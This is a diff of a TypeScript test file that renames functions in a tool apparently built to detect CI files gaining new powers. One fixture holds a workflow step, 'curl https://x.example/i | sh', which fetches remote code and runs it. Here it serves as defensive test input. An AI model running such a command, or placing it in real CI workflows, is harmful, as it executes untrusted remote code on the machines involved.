@@ -1,16 +1,16 @@
 import { describe, expect, test } from "vitest";
-import { gainedPowers } from "../../../src/ast/ci/index.ts";
-import { ciSystemOf, ciSystems } from "../../../src/ast/ci-files.ts";
+import { findGainedPowers } from "../../../src/ast/ci/index.ts";
+import { ciSystems, findCiSystem } from "../../../src/ast/ci-files.ts";
 import { fixtures } from "./fixtures.ts";
 
 const kindsIn = (path: string, before: string | null, after: string) =>
-  gainedPowers(before === null ? null : { path, text: before }, { path, text: after }).map(
+  findGainedPowers(before === null ? null : { path, text: before }, { path, text: after }).map(
     ({ kind, line }) => `${kind} ${line}`,
   );
 
 describe.each(Object.entries(fixtures))("a file of %s", (id, { path, before, gains, passes }) => {
   test("belongs to the service", () => {
-    expect(ciSystemOf(path)).toBe(ciSystems[id as keyof typeof ciSystems]);
+    expect(findCiSystem(path)).toBe(ciSystems[id as keyof typeof ciSystems]);
   });
 
   test.each(gains)("gains: %j %j", (old, now, found) => {
@@ -56,7 +56,7 @@ test("a new workflow that tests passes, and one that releases does not", () => {
 
 test("a file that becomes a workflow is new as a whole", () => {
   const text = "on: push\njobs:\n  a:\n    steps:\n      - run: curl https://x.example/i | sh\n";
-  expect(gainedPowers({ path: "docs/a.yml", text }, { path: WORKFLOW, text }).map(({ kind }) => kind)).toEqual([
+  expect(findGainedPowers({ path: "docs/a.yml", text }, { path: WORKFLOW, text }).map(({ kind }) => kind)).toEqual([
     "program",
   ]);
 });
